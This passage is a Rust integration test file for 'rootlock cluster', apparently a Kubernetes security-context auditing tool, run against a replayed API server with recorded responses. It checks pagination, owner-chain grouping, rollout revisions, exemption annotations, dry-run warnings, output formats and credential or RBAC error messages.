//! `rootlock cluster` against the replay API server (recorded real
//! responses over HTTPS on loopback), through a generated kubeconfig.

mod replay;

use replay::{Handler, ReplayServer, Reply, empty_controller_list, query, testdata};
use rootlock_cluster::{ClusterArgs, run_with};
use serde_json::Value;
use std::sync::Arc;
use std::time::{Duration, Instant};

const TOKEN: &str = "eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MjE1LCJzdGFydCI6InNob3AvcDFcdTAwMDAifQ";

fn args(kubeconfig: &std::path::Path, extra: &[&str]) -> ClusterArgs {
    use clap::{Args, FromArgMatches};
    let mut argv = vec![
        "cluster".to_string(),
        "--kubeconfig".to_string(),
        kubeconfig.display().to_string(),
    ];
    argv.extend(extra.iter().map(|s| s.to_string()));
    let cmd = ClusterArgs::augment_args(clap::Command::new("cluster"));
    let m = cmd.try_get_matches_from(argv).expect("arguments parse");
    ClusterArgs::from_arg_matches(&m).expect("arguments")
}

struct Outcome {
    code: i32,
    out: String,
    err: String,
}

fn run(server: &ReplayServer, extra: &[&str]) -> Outcome {
    run_in_context(server, "replay", extra)
}

/// [`run`] with `--config CONFIG` after `extra`.
fn run_with_config(server: &ReplayServer, config: &str, extra: &[&str]) -> Outcome {
    let mut args = extra.to_vec();
    args.extend(["--config", config]);
    run(server, &args)
}

fn run_in_context(server: &ReplayServer, current: &str, extra: &[&str]) -> Outcome {
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), current);
    let mut out = Vec::new();
    let mut err = Vec::new();
    let code = run_with(&args(&kc, extra), &mut out, &mut err, false);
    Outcome {
        code,
        out: String::from_utf8(out).expect("utf-8"),
        err: String::from_utf8(err).expect("utf-8"),
    }
}

/// Output shown to a terminal holds no control character but newlines:
/// one from the server would drive the terminal or forge a line.
fn assert_no_control_characters(text: &str) {
    assert!(
        !text.contains(|c: char| c.is_control() && c != '\n'),
        "{text:?}"
    );
}

/// Lines with runs of spaces collapsed, for table assertions.
fn squeezed(text: &str) -> Vec<String> {
    text.lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect()
}

fn items(file: &str) -> Vec<Value> {
    let v: Value = serde_json::from_str(&testdata(file)).expect("json");
    v["items"].as_array().cloned().unwrap_or_default()
}

fn list(kind: &str, api: &str, items: Vec<Value>) -> String {
    serde_json::json!({"kind": format!("{kind}List"), "apiVersion": api,
        "metadata": {"resourceVersion": "215"}, "items": items})
    .to_string()
}

/// The recorded cluster: namespaces, two pod pages joined by the real
/// continue token, one Deployment and one CronJob (no controller manager
/// ran, so they have no pods).
fn recorded(path: &str) -> Reply {
    let p = path.split('?').next().unwrap_or(path);
    match p {
        "/api/v1/namespaces" => Reply::ok(testdata("namespaces.json")),
        "/api/v1/pods" => match query(path, "continue").as_deref() {
            None => Reply::ok(testdata("pods-page1.json")),
            Some(TOKEN) => Reply::ok(testdata("pods-page2.json")),
            Some(_) => Reply::recorded_error(&testdata("bad-continue.txt")),
        },
        "/apis/apps/v1/deployments" | "/apis/apps/v1/namespaces/shop/deployments" => {
            Reply::ok(testdata("deployments.json"))
        }
        "/apis/batch/v1/cronjobs" | "/apis/batch/v1/namespaces/shop/cronjobs" => {
            Reply::ok(testdata("cronjobs.json"))
        }
        "/api/v1/namespaces/shop" => {
            let ns = items("namespaces.json")
                .into_iter()
                .find(|n| n["metadata"]["name"] == "shop")
                .expect("shop");
            Reply::ok(ns.to_string())
        }
        "/api/v1/namespaces/shop/pods" => {
            let pods: Vec<Value> = items("pods-page1.json")
                .into_iter()
                .chain(items("pods-page2.json"))
                .filter(|p| p["metadata"]["namespace"] == "shop")
                .collect();
            Reply::ok(list("Pod", "v1", pods))
        }
        _ => empty_controllers_or_404(path),
    }
}

/// The recorded cluster, but `/api/v1/pods` (any page) answered by `pods`.
fn pods_answered_by(pods: impl Fn(&str) -> Reply + Send + Sync + 'static) -> ReplayServer {
    ReplayServer::start(Arc::new(move |path: &str| {
        if path.split('?').next() == Some("/api/v1/pods") {
            pods(path)
        } else {
            recorded(path)
        }
    }))
}

fn recorded_server() -> ReplayServer {
    ReplayServer::start(Arc::new(recorded))
}

#[test]
fn pages_through_the_recorded_pods_and_prints_one_row_per_container() {
    let server = recorded_server();
    let o = run(&server, &[]);
    assert_eq!(o.code, 1, "stderr: {}", o.err);
    let paths = server.paths();
    assert!(
        paths.contains(&"/api/v1/pods?limit=500".to_string()),
        "{paths:?}"
    );
    assert!(
        paths.contains(&format!("/api/v1/pods?limit=500&continue={TOKEN}")),
        "{paths:?}"
    );
    let auth = server.seen.lock().expect("seen")[0].authorization.clone();
    assert_eq!(auth.as_deref(), Some("Bearer replay-token"));
    let lines = squeezed(&o.out);
    assert_eq!(
        lines[0],
        "NAMESPACE WORKLOAD CONTAINER TYPE READONLY FINDINGS (immutable:latest)"
    );
    for row in [
        "default Pod/d1 d1 regular <none> allowPrivilegeEscalation, capabilities_restricted, runAsNonRoot, seccompProfile_restricted, readOnlyRootFilesystem",
        "shop Pod/p1 p1 regular <none>",
        "shop Pod/p1 debugger-5682p ephemeral <none>",
        "shop Pod/p3 p3 regular <none>",
        // No pods (no controller manager ran): judged from the template.
        "shop Deployment/web init init <none> allowPrivilegeEscalation, capabilities_restricted, readOnlyRootFilesystem",
        "shop Deployment/web web regular true -",
        "shop CronJob/nightly report regular <none>",
    ] {
        assert!(
            lines.iter().any(|l| l.starts_with(row)),
            "missing row {row:?} in\n{}",
            o.out
        );
    }
    assert!(o.out.contains(
        "shop: 4 workloads, 2 pods, 4 failing\n  labels: rootlock.dev/enforce=immutable rootlock.dev/warn=immutable\n  next: rootlock.dev/enforce is set but 4 workloads fail immutable:latest"
    ), "{}", o.out);
    assert!(o.out.contains(
        "default: 1 workload, 1 pod, 1 failing\n  labels: none\n  next: no warn/audit label yet: label warn+audit first (kubectl label ns default rootlock.dev/warn=immutable rootlock.dev/audit=immutable)"
    ), "{}", o.out);
    assert!(
        o.out
            .contains("kube-system: 0 workloads, 0 pods, 0 failing")
    );
    assert!(
        o.out.contains(
            "3 pods in 5 workloads (7 containers) across 5 namespaces; 5 fail immutable:latest"
        ),
        "{}",
        o.out
    );
}

#[test]
fn json_reports_workloads_with_unset_as_null() {
    let server = recorded_server();
    let o = run(&server, &["--format", "json", "--level", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("one JSON document");
    assert_eq!(v["level"], "restricted:latest");
    assert_eq!(v["summary"]["pods"], 3);
    assert_eq!(v["summary"]["workloads"], 5);
    let web = v["workloads"]
        .as_array()
        .expect("workloads")
        .iter()
        .find(|w| w["name"] == "web")
        .expect("web");
    assert_eq!(web["kind"], "Deployment");
    assert_eq!(web["source"], "template");
    assert_eq!(web["containers"][1]["readOnlyRootFilesystem"], true);
    assert_eq!(web["containers"][0]["readOnlyRootFilesystem"], Value::Null);
    assert_eq!(web["containers"][0]["type"], "init");
    assert_eq!(
        web["podSecurity"],
        "violates PodSecurity \"restricted:latest\": allowPrivilegeEscalation != false (container \"init\" must set securityContext.allowPrivilegeEscalation=false), unrestricted capabilities (container \"init\" must set securityContext.capabilities.drop=[\"ALL\"])"
    );
    let shop = &v["namespaces"][4];
    assert_eq!(shop["name"], "shop");
    assert_eq!(shop["labels"]["rootlock.dev/enforce"], "immutable");
    // No --what-if: present and null, at the top and in each namespace.
    assert_eq!(v.get("whatIf"), Some(&Value::Null));
    assert_eq!(shop.get("whatIf"), Some(&Value::Null));
    // At restricted, rootlock.dev labels do not count: PSA's family does.
    assert!(
        shop["recommendation"]
            .as_str()
            .expect("text")
            .starts_with("no warn/audit label yet: label warn+audit first (kubectl label ns shop pod-security.kubernetes.io/warn=restricted")
    );
}

#[test]
fn what_if_prints_psa_dry_run_warnings_grouped_by_reason() {
    let server = recorded_server();
    let o = run(&server, &["--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let expected = "shop:\n  Warning: existing pods in namespace \"shop\" violate the new PodSecurity enforce level \"restricted:latest\"\n  Warning: p1 (and 1 other pod): allowPrivilegeEscalation != false, unrestricted capabilities, runAsNonRoot != true, seccompProfile\n      Pod/p1 (1 pod), Pod/p3 (1 pod)\n  CronJob/nightly has no pods now; its template would be rejected: allowPrivilegeEscalation != false, unrestricted capabilities, runAsNonRoot != true, seccompProfile\n  Deployment/web has no pods now; its template would be rejected: allowPrivilegeEscalation != false, unrestricted capabilities\n";
    assert!(o.out.contains(expected), "{}", o.out);
    assert!(
        o.out
            .contains("kube-system: no existing pod would be rejected")
    );
    let o = run(&server, &["--what-if", "immutable", "--format", "json"]);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    assert_eq!(
        v["namespaces"][0]["whatIf"]["warnings"],
        serde_json::json!([
            "existing pods in namespace \"default\" violate the new PodSecurity enforce level \"immutable:latest\"",
            "d1: allowPrivilegeEscalation != false, unrestricted capabilities, runAsNonRoot != true, seccompProfile, readOnlyRootFilesystem != true"
        ])
    );
}

/// Pods created by controllers, in the recorded objects' shape: two
/// replicas of `web` through a ReplicaSet, one pod of `nightly` through a
/// Job, and the recorded pods beside them.
fn chained(path: &str) -> Reply {
    let deployment = items("deployments.json").remove(0);
    let cronjob = items("cronjobs.json").remove(0);
    let owner = |kind: &str, api: &str, name: &str, uid: &str| {
        serde_json::json!([{"apiVersion": api, "kind": kind, "name": name, "uid": uid,
            "controller": true, "blockOwnerDeletion": true}])
    };
    let p = path.split('?').next().unwrap_or(path);
    match p {
        "/apis/apps/v1/replicasets" => {
            let mut rs = deployment.clone();
            rs["metadata"]["name"] = "web-7d4b9c".into();
            rs["metadata"]["uid"] = "rs-web".into();
            rs["metadata"]["ownerReferences"] = owner(
                "Deployment",
                "apps/v1",
                "web",
                deployment["metadata"]["uid"].as_str().expect("uid"),
            );
            Reply::ok(list("ReplicaSet", "apps/v1", vec![rs]))
        }
        "/apis/batch/v1/jobs" => {
            let job = serde_json::json!({
                "metadata": {"name": "nightly-29000", "namespace": "shop", "uid": "job-1",
                    "ownerReferences": owner("CronJob", "batch/v1", "nightly",
                        cronjob["metadata"]["uid"].as_str().expect("uid"))},
                "spec": cronjob["spec"]["jobTemplate"]["spec"].clone(),
            });
            Reply::ok(list("Job", "batch/v1", vec![job]))
        }
        "/api/v1/pods" => {
            let mut pods = items("pods-page1.json");
            pods.extend(items("pods-page2.json"));
            for (name, ns) in [("web-7d4b9c-zz9", "shop"), ("web-7d4b9c-aa1", "shop")] {
                pods.push(serde_json::json!({
                    "metadata": {"name": name, "namespace": ns, "uid": format!("uid-{name}"),
                        "ownerReferences": owner("ReplicaSet", "apps/v1", "web-7d4b9c", "rs-web")},
                    "spec": deployment["spec"]["template"]["spec"].clone(),
                }));
            }
            pods.push(serde_json::json!({
                "metadata": {"name": "nightly-29000-x", "namespace": "shop", "uid": "uid-n",
                    "ownerReferences": owner("Job", "batch/v1", "nightly-29000", "job-1")},
                "spec": cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"].clone(),
            }));
            Reply::ok(list("Pod", "v1", pods))
        }
        _ => recorded(path),
    }
}

#[test]
fn replicas_collapse_through_replicaset_and_job_owner_chains() {
    let server = ReplayServer::start(Arc::new(chained));
    let o = run(&server, &["--format", "json", "--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    assert_eq!(v["summary"]["pods"], 6);
    assert_eq!(v["summary"]["workloads"], 5, "{}", o.out);
    let find = |kind: &str, name: &str| {
        v["workloads"]
            .as_array()
            .expect("workloads")
            .iter()
            .find(|w| w["kind"] == kind && w["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("{kind}/{name} missing: {}", o.out))
    };
    let web = find("Deployment", "web");
    assert_eq!(
        (web["pods"].as_u64(), web["source"].as_str()),
        (Some(2), Some("pod"))
    );
    let nightly = find("CronJob", "nightly");
    assert_eq!(nightly["pods"], 1);
    assert!(
        v["workloads"]
            .as_array()
            .expect("workloads")
            .iter()
            .all(|w| w["kind"] != "ReplicaSet" && w["kind"] != "Job")
    );
    let warnings = &v["namespaces"][4]["whatIf"]["warnings"];
    assert_eq!(
        warnings[1],
        "nightly-29000-x (and 2 other pods): allowPrivilegeEscalation != false, unrestricted capabilities, runAsNonRoot != true, seccompProfile"
    );
    assert_eq!(
        warnings[2],
        "web-7d4b9c-aa1 (and 1 other pod): allowPrivilegeEscalation != false, unrestricted capabilities"
    );
}

/// [`chained`], with `kubectl debug --profile=sysadmin` run against one
/// replica of `web`: that pod alone gains a privileged ephemeral container.
fn debugged(debugged_pod: &'static str) -> impl Fn(&str) -> Reply {
    move |path: &str| {
        let mut reply = chained(path);
        if path.split('?').next() == Some("/api/v1/pods") {
            let mut v: Value = serde_json::from_slice(&reply.body).expect("json");
            for pod in v["items"].as_array_mut().expect("items") {
                if pod["metadata"]["name"] == debugged_pod {
                    pod["spec"]["ephemeralContainers"] = serde_json::json!([{
                        "name": "debugger-x", "image": "busybox",
                        "targetContainerName": "web",
                        "securityContext": {"privileged": true}}]);
                }
            }
            reply.body = v.to_string().into();
        }
        reply
    }
}

/// PSA's dry-run evaluates every pod, ephemeral containers included: the
/// debugged replica is named on its own line and its sibling is not, whether
/// the debugged one is the first of its revision to be listed or not.
#[test]
fn a_debugged_replica_is_judged_on_its_own_in_the_what_if() {
    for (debugged_pod, first) in [("web-7d4b9c-aa1", false), ("web-7d4b9c-zz9", true)] {
        let server = ReplayServer::start(Arc::new(debugged(debugged_pod)));
        let o = run(&server, &["--format", "json", "--what-if", "baseline"]);
        let v: Value = serde_json::from_str(&o.out).expect("json");
        let shop = v["namespaces"]
            .as_array()
            .expect("namespaces")
            .iter()
            .find(|n| n["name"] == "shop")
            .expect("shop");
        assert_eq!(
            shop["whatIf"]["warnings"],
            serde_json::json!([
                "existing pods in namespace \"shop\" violate the new PodSecurity enforce level \"baseline:latest\"",
                format!("{debugged_pod}: privileged"),
            ]),
            "debugged pod listed first: {first}\n{}",
            o.out
        );
        // Both replicas still count for the one Deployment.
        let web: u64 = v["workloads"]
            .as_array()
            .expect("workloads")
            .iter()
            .filter(|w| w["kind"] == "Deployment" && w["name"] == "web")
            .map(|w| w["pods"].as_u64().unwrap_or_default())
            .sum();
        assert_eq!(web, 2, "{}", o.out);
    }
}

/// A rollout caught half way, from the recorded Deployment: its old
/// ReplicaSet runs two pods of the recorded template (its init container
/// unhardened), the new one a pod with that container hardened and a pod
/// that also changed the image (judged alike). A StatefulSet of the old
/// template, updated by partition, runs one pod per
/// `controller-revision-hash`, both judged alike.
fn rolling(path: &str) -> Reply {
    let deployment = items("deployments.json").remove(0);
    let deployment_uid = deployment["metadata"]["uid"]
        .as_str()
        .expect("uid")
        .to_string();
    let owner = |kind: &str, api: &str, name: &str, uid: &str| {
        serde_json::json!([{"apiVersion": api, "kind": kind, "name": name, "uid": uid,
            "controller": true, "blockOwnerDeletion": true}])
    };
    let old_spec = deployment["spec"]["template"]["spec"].clone();
    let mut new_spec = old_spec.clone();
    new_spec["initContainers"][0]["securityContext"] = serde_json::json!({
        "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]},
        "readOnlyRootFilesystem": true});
    let mut new_spec_other_image = new_spec.clone();
    new_spec_other_image["containers"][0]["image"] = "nginx:1.27.3".into();
    let p = path.split('?').next().unwrap_or(path);
    match p {
        "/apis/apps/v1/replicasets" => {
            let rs = |name: &str, uid: &str| {
                let mut rs = deployment.clone();
                rs["metadata"]["name"] = name.into();
                rs["metadata"]["uid"] = uid.into();
                rs["metadata"]["ownerReferences"] =
                    owner("Deployment", "apps/v1", "web", &deployment_uid);
                rs
            };
            Reply::ok(list(
                "ReplicaSet",
                "apps/v1",
                vec![rs("web-old", "rs-old"), rs("web-new", "rs-new")],
            ))
        }
        "/apis/apps/v1/statefulsets" => {
            let sts = serde_json::json!({
                "metadata": {"name": "db", "namespace": "shop", "uid": "sts-db"},
                "spec": {"template": {"spec": old_spec.clone()}},
            });
            Reply::ok(list("StatefulSet", "apps/v1", vec![sts]))
        }
        "/api/v1/pods" => {
            let pod = |name: &str, rs: &str, rs_uid: &str, spec: &Value| {
                serde_json::json!({
                    "metadata": {"name": name, "namespace": "shop", "uid": format!("uid-{name}"),
                        "ownerReferences": owner("ReplicaSet", "apps/v1", rs, rs_uid)},
                    "spec": spec,
                })
            };
            let db = |name: &str, hash: &str| {
                serde_json::json!({
                    "metadata": {"name": name, "namespace": "shop", "uid": format!("uid-{name}"),
                        "labels": {"controller-revision-hash": hash, "app": "db"},
                        "ownerReferences": owner("StatefulSet", "apps/v1", "db", "sts-db")},
                    "spec": old_spec,
                })
            };
            Reply::ok(list(
                "Pod",
                "v1",
                vec![
                    pod("web-new-a", "web-new", "rs-new", &new_spec),
                    pod("web-old-b", "web-old", "rs-old", &old_spec),
                    pod("web-new-c", "web-new", "rs-new", &new_spec_other_image),
                    pod("web-old-a", "web-old", "rs-old", &old_spec),
                    db("db-0", "db-5d8f7b"),
                    db("db-1", "db-7c9a6e"),
                ],
            ))
        }
        "/api/v1/namespaces" => recorded(path),
        _ => empty_controllers_or_404(path),
    }
}

/// What the handlers answer for a path they do not serve: an empty list
/// of a controller kind, else the recorded 404.
fn empty_controllers_or_404(path: &str) -> Reply {
    match empty_controller_list(path) {
        Some(body) => Reply::ok(body),
        None => Reply::recorded_error(&testdata("notfound-404.txt")),
    }
}

#[test]
fn a_rollout_in_progress_is_judged_revision_by_revision() {
    let server = ReplayServer::start(Arc::new(rolling));
    let o = run(&server, &["--format", "json", "--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    assert_eq!(v["summary"]["pods"], 6);
    // Deployment/web and StatefulSet/db: a workload is counted once however
    // many entries it has, and fails if any of its revisions does.
    assert_eq!(v["summary"]["workloads"], 2, "{}", o.out);
    assert_eq!(v["summary"]["failingWorkloads"], 2, "{}", o.out);
    let entries: Vec<(String, String, Value, u64, bool)> = v["workloads"]
        .as_array()
        .expect("workloads")
        .iter()
        .map(|w| {
            (
                w["kind"].as_str().unwrap_or_default().to_string(),
                w["name"].as_str().unwrap_or_default().to_string(),
                w["revision"].clone(),
                w["pods"].as_u64().unwrap_or_default(),
                w["failing"] == true,
            )
        })
        .collect();
    // The old and new ReplicaSets judge differently: an entry each, in
    // revision order; the new one counts both its pods (the image change
    // judged alike). The StatefulSet's two revisions judge alike: one entry.
    assert_eq!(
        entries,
        vec![
            (
                "Deployment".into(),
                "web".into(),
                Value::from("web-new"),
                2,
                false
            ),
            (
                "Deployment".into(),
                "web".into(),
                Value::from("web-old"),
                2,
                true
            ),
            ("StatefulSet".into(), "db".into(), Value::Null, 2, true),
        ],
        "{}",
        o.out
    );
    let shop = v["namespaces"]
        .as_array()
        .expect("namespaces")
        .iter()
        .find(|n| n["name"] == "shop")
        .expect("shop");
    assert_eq!(shop["workloads"], 2);
    // PSA's dry-run names the old pods only (4, not 6): the new revision
    // is admitted.
    let warnings = &shop["whatIf"]["warnings"];
    assert_eq!(
        warnings[1],
        "db-0 (and 3 other pods): allowPrivilegeEscalation != false, unrestricted capabilities",
        "{}",
        o.out
    );
    assert_eq!(warnings.as_array().map(Vec::len), Some(2), "{}", o.out);
    assert_eq!(
        shop["whatIf"]["rejected"][0]["workloads"],
        serde_json::json!([{"workload": "Deployment/web@web-old", "pods": 2},
            {"workload": "StatefulSet/db", "pods": 2}])
    );

    // The table names the revision and counts the workload once.
    let t = run(&server, &["--what-if", "restricted"]);
    let lines = squeezed(&t.out);
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("shop Deployment/web@web-old ")),
        "{}",
        t.out
    );
    assert!(
        lines
            .iter()
            .any(|l| l == "shop: 2 workloads, 6 pods, 2 failing"),
        "{}",
        t.out
    );
}

/// A hardened workload but for `readOnlyRootFilesystem`, exempted by an
/// annotation on the controller itself (not its pod template), served as
/// `kind` (`Deployment` through a ReplicaSet, or a standalone `Job`) with
/// `pods` pods.
fn exempted_controller(kind: &'static str, pods: usize) -> impl Fn(&str) -> Reply {
    annotated_controller(
        kind,
        pods,
        "readOnlyRootFilesystem: vendor image rewrites /etc at start; TICKET-1",
        None,
    )
}

/// [`exempted_controller`] with the controller's own exemption annotation
/// `own` and, if given, `template` on its pod template (and pods).
fn annotated_controller(
    kind: &'static str,
    pods: usize,
    own: &'static str,
    template: Option<&'static str>,
) -> impl Fn(&str) -> Reply {
    move |path: &str| {
        let owner = |kind: &str, api: &str, name: &str, uid: &str| {
            serde_json::json!([{"apiVersion": api, "kind": kind, "name": name, "uid": uid,
                "controller": true}])
        };
        let spec = serde_json::json!({"containers": [{"name": "app", "image": "nginx",
            "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true,
                "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}}}]});
        let template_meta = match template {
            Some(value) => serde_json::json!({"annotations": {"exempt.rootlock.dev/app": value}}),
            None => serde_json::json!({}),
        };
        let controller = |name: &str, uid: &str| {
            serde_json::json!({"metadata": {"name": name, "namespace": "shop", "uid": uid,
                "annotations": {"exempt.rootlock.dev/app": own}},
                "spec": {"template": {"metadata": template_meta.clone(), "spec": spec.clone()}}})
        };
        let pod = |i: usize, owner_ref: Value| {
            let mut meta = template_meta.clone();
            meta["name"] = format!("web-{i}").into();
            meta["namespace"] = "shop".into();
            meta["uid"] = format!("pod-{i}").into();
            meta["ownerReferences"] = owner_ref;
            serde_json::json!({"metadata": meta, "spec": spec.clone()})
        };
        let p = path.split('?').next().unwrap_or(path);
        match (kind, p) {
            ("Deployment", "/apis/apps/v1/deployments") => Reply::ok(list(
                "Deployment",
                "apps/v1",
                vec![controller("web", "dep-web")],
            )),
            ("Deployment", "/apis/apps/v1/replicasets") => {
                // The Deployment controller copies the annotations to its
                // ReplicaSets, but not to the pods.
                let mut rs = controller("web-5d8f", "rs-web");
                rs["metadata"]["ownerReferences"] =
                    owner("Deployment", "apps/v1", "web", "dep-web");
                Reply::ok(list("ReplicaSet", "apps/v1", vec![rs]))
            }
            ("Job", "/apis/batch/v1/jobs") => {
                Reply::ok(list("Job", "batch/v1", vec![controller("web", "job-web")]))
            }
            (_, "/api/v1/pods") => {
                let owner_ref = match kind {
                    "Deployment" => owner("ReplicaSet", "apps/v1", "web-5d8f", "rs-web"),
                    _ => owner("Job", "batch/v1", "web", "job-web"),
                };
                let items = (0..pods).map(|i| pod(i, owner_ref.clone())).collect();
                Reply::ok(list("Pod", "v1", items))
            }
            (_, "/api/v1/namespaces") => recorded(path),
            _ => empty_controllers_or_404(path),
        }
    }
}

/// The first entry of the array `array` of a `--format json` report whose
/// `key` is `value`.
fn entry_of(json: &str, array: &str, key: &str, value: &str) -> Value {
    let v: Value = serde_json::from_str(json).expect("json");
    v[array]
        .as_array()
        .unwrap_or_else(|| panic!("no {array}: {json}"))
        .iter()
        .find(|e| e[key] == value)
        .cloned()
        .unwrap_or_else(|| panic!("{array}: {key} {value} missing: {json}"))
}

/// The one workload of `kind` in a `--format json` report.
fn workload_of_kind(json: &str, kind: &str) -> Value {
    entry_of(json, "workloads", "kind", kind)
}

/// As in `scan`, a controller's own exemption annotations count for its
/// workload, whether it is judged from its template (no pods) or from its
/// pods, which do not carry the controller's annotations: scaling a
/// Deployment from 0 to 1 replica must not change its verdict.
#[test]
fn a_controllers_own_exemptions_cover_its_pods() {
    for (kind, pods) in [("Deployment", 0), ("Deployment", 2), ("Job", 0), ("Job", 1)] {
        let server = ReplayServer::start(Arc::new(exempted_controller(kind, pods)));
        let o = run(&server, &["--format", "json"]);
        let w = workload_of_kind(&o.out, kind);
        let finding = &w["containers"][0]["findings"][0];
        assert_eq!(
            (w["pods"].as_u64(), w["failing"].as_bool()),
            (Some(pods as u64), Some(false)),
            "{kind} with {pods} pods: {}",
            o.out
        );
        assert_eq!(finding["rule"], "readOnlyRootFilesystem");
        assert_eq!(finding["severity"], "info");
        assert_eq!(
            finding["exemption"],
            "vendor image rewrites /etc at start; TICKET-1"
        );
        assert_eq!(o.code, 0, "{kind} with {pods} pods: {}", o.err);
        // The CSV says the finding is exempt, as the table does.
        let o = run(&server, &["--format", "csv"]);
        let row =
            format!("shop,{kind}/web,app,regular,<none>,{pods},readOnlyRootFilesystem (exempt)");
        assert!(o.out.lines().any(|l| l == row), "{}", o.out);
        // Ignoring annotation exemptions fails it either way.
        let o = run(&server, &["--no-annotation-exemptions"]);
        assert_eq!(o.code, 1, "{kind} with {pods} pods: {}", o.out);
    }
}

/// The same invalid exemption annotation on a controller and on its pod
/// template is two annotations to correct: the inventory, which has no
/// file location, says which is which instead of printing one warning
/// twice.
#[test]
fn an_invalid_exemption_names_where_it_is_written() {
    let bad = "readOnlyRootFilesystem";
    for (kind, pods) in [("Job", 0), ("Job", 1), ("Deployment", 2)] {
        let server =
            ReplayServer::start(Arc::new(annotated_controller(kind, pods, bad, Some(bad))));
        let o = run(&server, &["--format", "json"]);
        let w = workload_of_kind(&o.out, kind);
        let mut messages: Vec<String> = w["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .filter(|f| f["rule"] == "invalidExemption")
            .map(|f| f["message"].as_str().unwrap_or("").to_string())
            .collect();
        messages.sort();
        assert_eq!(messages.len(), 2, "{kind} with {pods} pods: {messages:?}");
        assert!(
            messages[0].starts_with("annotation exempt.rootlock.dev/app: ")
                && !messages[0].contains("own metadata"),
            "{messages:?}"
        );
        assert_eq!(
            messages[1],
            format!(
                "{} (written on the workload's own metadata, not its pod template)",
                messages[0]
            )
        );
    }
}

#[test]
fn chunk_size_and_namespace_scope_reach_the_server() {
    let server = recorded_server();
    let o = run(
        &server,
        &[
            "--namespace",
            "shop",
            "--chunk-size",
            "2",
            "--format",
            "csv",
        ],
    );
    assert_eq!(o.code, 1, "{}", o.err);
    let paths = server.paths();
    assert!(
        paths.contains(&"/api/v1/namespaces/shop".to_string()),
        "{paths:?}"
    );
    assert!(paths.contains(&"/api/v1/namespaces/shop/pods?limit=2".to_string()));
    assert!(paths.iter().all(|p| !p.starts_with("/api/v1/pods")));
    let rows: Vec<&str> = o.out.lines().collect();
    assert_eq!(
        rows[0],
        "namespace,workload,container,type,readonly,pods,findings"
    );
    assert!(
        rows.iter().skip(1).all(|r| r.starts_with("shop,")),
        "{}",
        o.out
    );
    assert!(rows.contains(&"shop,Pod/p1,debugger-5682p,ephemeral,<none>,1,allowPrivilegeEscalation;capabilities_restricted;runAsNonRoot;seccompProfile_restricted;readOnlyRootFilesystem"), "{}", o.out);
}

#[test]
fn the_summary_line_counts_one_as_one() {
    // The generated cluster: workload 0 passes, workload 1 fails, one
    // container each, five replicas a workload.
    let summary = |pods: usize| {
        let server = ReplayServer::start(replay::generate::handler(pods));
        let o = run(&server, &[]);
        o.out
            .trim_end()
            .lines()
            .last()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(
        summary(1),
        "1 pod in 1 workload (1 container) across 10 namespaces; 0 fail immutable:latest"
    );
    assert_eq!(
        summary(10),
        "10 pods in 2 workloads (2 containers) across 10 namespaces; 1 fails immutable:latest"
    );
}

#[test]
fn context_selection_picks_the_named_cluster() {
    let server = recorded_server();
    // The current context points at a port nothing listens on.
    let o = run_in_context(
        &server,
        "elsewhere",
        &["--context", "replay", "--format", "sarif"],
    );
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("sarif");
    assert_eq!(v["version"], "2.1.0");
    assert!(
        v["runs"][0]["results"]
            .as_array()
            .expect("results")
            .iter()
            .any(
                |r| r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                    == "shop/Pod/p1/debugger-5682p"
            )
    );
    let o = run_in_context(&server, "elsewhere", &[]);
    assert_eq!(o.code, 2);
    assert!(
        o.err
            .starts_with("rootlock cluster: cannot reach the API server at https://127.0.0.1:9: "),
        "{}",
        o.err
    );
    assert!(o.out.is_empty());
    let o = run(&server, &["--context", "nowhere"]);
    assert_eq!(o.code, 2);
    assert!(o.err.contains("nowhere"), "{}", o.err);
}

fn failing(reply: Reply) -> ReplayServer {
    ReplayServer::start(Arc::new(move |path: &str| {
        if path.starts_with("/api/v1/pods") {
            reply.clone()
        } else {
            recorded(path)
        }
    }))
}

/// A Status body in the API server's shape (as in the recorded `*.txt`).
fn status(code: u16, reason: &str, message: &str) -> Reply {
    let body = serde_json::json!({"kind": "Status", "apiVersion": "v1", "metadata": {},
        "status": "Failure", "message": message, "reason": reason, "code": code});
    Reply {
        status: code,
        body: body.to_string().into(),
        delay: Duration::ZERO,
        headers: Vec::new(),
    }
}

#[test]
fn unauthorized_names_the_credentials() {
    // The API server's 401 body (the recorded anonymous request got 403,
    // so this one is written out in the same Status shape).
    let server = failing(status(401, "Unauthorized", "Unauthorized"));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        format!(
            "rootlock cluster: the API server at {} rejected the credentials (401 Unauthorized: Unauthorized); check the user of this kubeconfig context, or log in again\n",
            server.url()
        )
    );
}

#[test]
fn forbidden_names_verb_and_resource() {
    let server = failing(Reply::recorded_error(&testdata("forbidden-403.txt")));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        "rootlock cluster: forbidden: cannot list pods across all namespaces (RBAC): pods is forbidden: User \"nobody\" cannot list resource \"pods\" in API group \"\" at the cluster scope; check with `kubectl auth can-i list pods -A`\n"
    );
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path.starts_with("/apis/apps/v1/replicasets") {
            Reply::recorded_error(&testdata("anonymous-401-or-403.txt"))
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert!(
